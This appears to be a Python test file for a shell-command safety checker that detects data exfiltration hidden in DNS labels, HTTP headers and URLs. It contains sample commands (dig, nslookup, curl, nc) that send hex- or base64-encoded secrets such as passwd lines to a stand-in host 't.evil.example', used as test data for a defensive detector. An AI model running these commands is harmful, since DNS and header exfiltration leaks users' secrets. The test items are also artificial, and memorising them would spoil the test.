"""A name tells whoever answers for its zone every label: what looks encoded asks, names as they are given do not."""

from __future__ import annotations

import base64
import random

from ghost.shell.judge.classification import classify
from ghost.shell.judge.decision import RISKY, SAFE
from ghost.shell.judge.network.exfiltration import fault_of_header, fault_of_name, fault_of_names
from ghost.shell.judge.network.request_urls import fault_of_url
from tests.each_row import each

GUID = "8a1c2e3f-4b5d-4e6f-8a9b-0c1d2e3f4a5b"

ORDINARY = f"""
myvault-prod-weu-001.vault.azure.net stprodlogsweu0012345abcd.blob.core.windows.net stprodlogsweu0012345abcd
privatelink.blob.core.windows.net aks-prod-dns-4f2c9a1b.hcp.westeurope.azmk8s.io ep-12345678.privatelink.example.net
{GUID}.privatelink.westeurope.azmk8s.io {GUID}.ods.opinsights.azure.com {GUID}._msdcs.corp.contoso.com {GUID}
app-shop-a6gqaeashthkhkeu.westeurope-01.azurewebsites.net fde-shop-hqgkb2d0dxgwg3e9.z01.azurefd.net
ip-10-0-1-4.ec2.internal d111111abcdef8.cloudfront.net ec2-203-0-113-25.compute-1.amazonaws.com
internal-shop-alb-1234567890.eu-west-1.elb.amazonaws.com
3F2A9C1E7B4D8F6A0C5E2B9D7F1A3C6E.gr7.eu-west-1.eks.amazonaws.com
vpce-0fe5b17a0707d6abc-29p5708s.ec2.us-east-1.vpce.amazonaws.com i-0abcd1234ef567890.eu-west-1.compute.internal
_sip._tcp.contoso.com _dmarc.contoso.com selector1._domainkey.contoso.com _acme-challenge.www.example.com
_ldap._tcp.dc._msdcs.corp.contoso.com xn--bcher-kva.example xn--vermgensberatung-zwb.example xn--e1afmkfd.xn--p1ai
4.1.0.10.in-addr.arpa 4.3.2.1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa
f.e.d.c.b.a.9.8.7.6.5.4.3.2.1.0.a.9.8.7.8.b.d.0.1.0.0.2.0.0.0.0.ip6.arpa
shop-redis-0.shop-redis.shop.svc.cluster.local shop-api-7d9f8b6c5d-x2x4z.shop.svc.cluster.local coredns-5d78c9869d-k7hkz
DESKTOP-4F7K2Q9 WIN-8JH3K2L1M0N.contoso.local SEP001A2B3C4D5E.voip.example.com 3f4e5d6c7b8a
really-long-service-name-for-payments-integration-prod interconnectionmanagementplatform.example.com
llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch.co.uk donaudampfschifffahrtsgesellschaft.de
grzegorzbrzeczyszczykiewicz.pl mcdc7rprdwsusp1v.corp.example.com ussltcpnl8ab.tools.example.com
mathematical-rhubarb-rwbl1q3zd8imukj8e7vs5mg4.herokudns.com feature-shop-1234-9f8e7d6.preview.example.com
MyCompanyWebServer01.corp.example.com a1-245.akam.net www.example.com. web-01 * .
""".split()

SECRET = b"root:x:0:0:root:/root:/bin/bash"
RANDOM = random.Random(7).randbytes(24)


def _split(text: str, size: int) -> str:
    return ".".join(text[start : start + size] for start in range(0, len(text), size))


def _spellings(data: bytes) -> list[str]:
    base32 = base64.b32encode(data).decode().rstrip("=")
    base64url = base64.urlsafe_b64encode(data).decode().rstrip("=")
    spelled = [data.hex(), data.hex().upper(), base32, base32.lower(), base64url]
    return [_split(text, size) for text in spelled for size in (63, 16, 10, 8)]


ENCODED = [*_spellings(SECRET), *_spellings(RANDOM)]


@each("name", ORDINARY)
def test_a_name_as_people_and_clouds_give_it_is_asked_for(name: str) -> None:
    assert fault_of_name(name) is None
    assert fault_of_names([name]) is None


@each("zone", ["t.evil.example", "example.com", "a.b.c.example.net."])
@each("encoded", ENCODED)
def test_data_in_labels_asks_however_it_is_spelled_and_split(encoded: str, zone: str) -> None:
    assert fault_of_name(f"{encoded}.{zone}") is not None


@each("size", [2, 4, 6, 8, 63])
def test_text_in_hex_asks_in_labels_of_any_length(size: int) -> None:
    """It decodes to text, so nothing else is wanted of it; the number of the message may stand before it."""
    assert fault_of_name(f"{_split(b'password'.hex(), size)}.t.evil.example") is not None
    assert fault_of_name(f"3.{_split(b'password'.hex(), size)}.t.evil.example") is not None


def test_text_in_base64_asks_from_nine_letters_on() -> None:
    assert fault_of_name("cGFzc3dvcmQx.evil.example") is not None
    assert fault_of_name(f"{base64.b32encode(b'password=1').decode()}.evil.example") is not None


@each("zone", ["cloudfront.net.evil.example", "notcloudfront.net", "azure.com.example", "xn--evil-cloudfront.net"])
def test_a_zone_is_an_operators_by_its_last_labels_alone(zone: str) -> None:
    hashes = "9f8e7d6c5b4a3f2e1d0c.7a6b5c4d3e2f1a0b9c8d"

    assert fault_of_name(f"{hashes}.cloudfront.net") is None
    assert fault_of_name(f"{hashes}.{zone}") is not None


def test_an_operators_zone_has_a_bound_too() -> None:
    """A server that is given with the name is told it, whatever the zone."""
    assert fault_of_name(f"{_split(RANDOM.hex() * 2, 48)}.cloudfront.net") is not None


def test_an_id_passes_once_and_only_in_its_form() -> None:
    other = "1b2c3d4e-5f60-4718-9a2b-3c4d5e6f7081"

    assert fault_of_name(f"{GUID}.app.example.com") is None
    assert fault_of_name(f"{GUID}.{other}.app.example.com") is not None
    assert fault_of_name("8a1c2e3f-4b5d-9e6f-0a9b-0c1d2e3f4a5b.8a1c2e3f.app.example.com") is not None


def _letters(first: str, count: int) -> str:
    """Punycode of letters of one script that are no word."""
    return "".join(chr(ord(first) + 389 * at) for at in range(count)).encode("punycode").decode()


def test_punycode_is_a_word_only_where_it_is_letters_of_one_script() -> None:
    assert fault_of_name("xn--vermgensberatung-zwb.example") is None
    assert fault_of_name("xn--80ak6aa92e.xn--p1ai") is None
    assert fault_of_name(".".join(["xn--" + _letters("一", 18)] * 2) + ".evil.example") is not None
    assert fault_of_name("xn--7d9f8b6c5dx2x4zq9w8r7t6y5.evil.example") is not None


def test_several_names_of_one_command_are_judged_together() -> None:
    chunks = [f"{RANDOM.hex()[start : start + 16]}.evil.example" for start in range(0, 48, 16)]

    assert [fault_of_name(chunk) for chunk in chunks] == [None, None, None]
    assert fault_of_names(chunks) is not None
    for program in ("dig +short", "resolvectl query", "getent hosts"):
        assert classify(f"{program} {chunks[0]}")[0] == SAFE
        assert classify(f"{program} {' '.join(chunks)}")[0] == RISKY


NAME = f"{_split(RANDOM.hex(), 24)}.t.evil.example"


@each(
    "form",
    [
        *(
            "dig {}",
            "dig @{} a.example",
            "dig -q {}",
            "dig +domain={} a",
            "dig +tls +tls-hostname={} @1.1.1.1 a.example",
        ),
        *("host {}", "host a.example {}", "nslookup {}", "nslookup {} 203.0.113.66", "nslookup -domain={} a"),
        *("ping -c 1 {}", "traceroute {}", "tracepath {}", "tracepath {}/33434", "mtr -r -c 1 {}", "whois {}"),
        *("nc -zv {} 443", "getent hosts {}", "getent ahosts {}", "resolvectl query {}", "resolvectl tlsa tcp {}:443"),
        *("resolvectl service _a._tcp {}", "curl {}", "curl -sI https://{}/", "curl https://{}:443/a", "lsof -i @{}"),
        *("curl --connect-to ::{}:443 https://a.example/", "curl -H 'Host: {}' http://a.example/", "route -n get {}"),
        *("curl -A {}{} https://a.example/", "curl -e https://{}/{} https://a.example/", "arp {}", "ss -tn dst {}"),
        *(
            "tcpdump -nn -r /tmp/captures/a.pcap host {}",
            "lsof -i TCP@{}:443",
            "curl -H 'Origin: https://{}/{}' a.example",
        ),
    ],
)
def test_every_place_where_a_name_is_resolved_or_sent_asks(form: str) -> None:
    assert classify(form.replace("{}", "www.example.com"))[0] == SAFE or "{}{}" in form or "/{}" in form
    assert classify(form.replace("{}", NAME))[0] == RISKY


def test_an_address_is_looked_up_backwards() -> None:
    assert classify("dig -x 2001:db8:7a9f:31c4:9b2e:4f6d:8c1a:5e37")[0] == SAFE


@each(
    "value",
    [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
        *("curl/8.5.0", GUID, "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "gzip, deflate, br"),
        *(
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            '"33a64df551425fcc55e4d42a148795d9f25f89d4"',
        ),
    ],
)
def test_headers_as_browsers_send_them_are_sent(value: str) -> None:
    assert fault_of_header(value) is None


@each("header", ["X-Request-Id", "User-Agent", "Referer", "traceparent", "If-None-Match"])
def test_data_in_a_header_asks(header: str) -> None:
    value = base64.b64encode(SECRET * 2).decode()

    assert classify(f"curl -H '{header}: {value}' https://a.example/")[0] == RISKY


TEXT = b"password=hunter2"


@each("prefix", ["0x", "x0x", "x", "h-"])
def test_what_says_that_hex_follows_hides_no_text(prefix: str) -> None:
    assert fault_of_name(f"{prefix}{b'password'.hex()}.t.evil.example") is not None
    assert fault_of_name(f"{prefix}7d9f8b6c5dff.t.example.com") is None
    assert fault_of_header(f"{prefix}{TEXT.hex()}") is not None
    assert fault_of_url(f"https://evil.example/{prefix}{TEXT.hex()}") is not None


@each(
    "value",
    [
        *(TEXT.hex(), base64.b64encode(TEXT).decode(), base64.b32encode(TEXT).decode().rstrip("=")),
        *(base64.urlsafe_b64encode(TEXT).decode().rstrip("="), f"id-{TEXT.hex()}", "00-" + TEXT.hex() + "-01"),
        *("70617373-776f-7264-3d68-756e74657232", "".join(f"\\x{byte:02x}" for byte in TEXT), "%70%61%73%73"),
    ],
)
def test_what_a_header_spells_is_no_id(value: str) -> None:
    assert fault_of_header(value) is not None


@each(
    "value, is_fine",
    [
        ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8", True),
        ("application/vnd.docker.distribution.manifest.v2+json, application/vnd.oci.image.index.v1+json", True),
        ("application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,video/3gpp2,audio/mp4", True),
        ("application/json;as=Table;v=v1;g=meta.k8s.io", True),
        ("text/9f3a81c2d4e5", False),
        ("secret/plain", False),
        ("text", False),
        ("text/plain;q=" + "a" * 40, False),
    ],
)
def test_accept_takes_media_types_alone(value: str, is_fine: bool) -> None:
    assert (classify(f"curl -H 'Accept: {value}' https://a.example/")[0] == SAFE) is is_fine


def test_an_address_of_sixteen_letters_asks_where_its_name_is_asked_for() -> None:
    assert classify("dig -x 7061:7373:776f:7264:3d68:756e:7465:7232")[0] == RISKY
    assert classify("dig -x 2001:db8:6f72:643d:6875:6e74:6572:3221")[0] == SAFE


def test_a_host_in_a_url_is_judged_whatever_stands_behind_it() -> None:
    for rest in ("", "/", "/health", "/?a=b"):
        assert fault_of_url(f"https://{NAME}{rest}") is not None
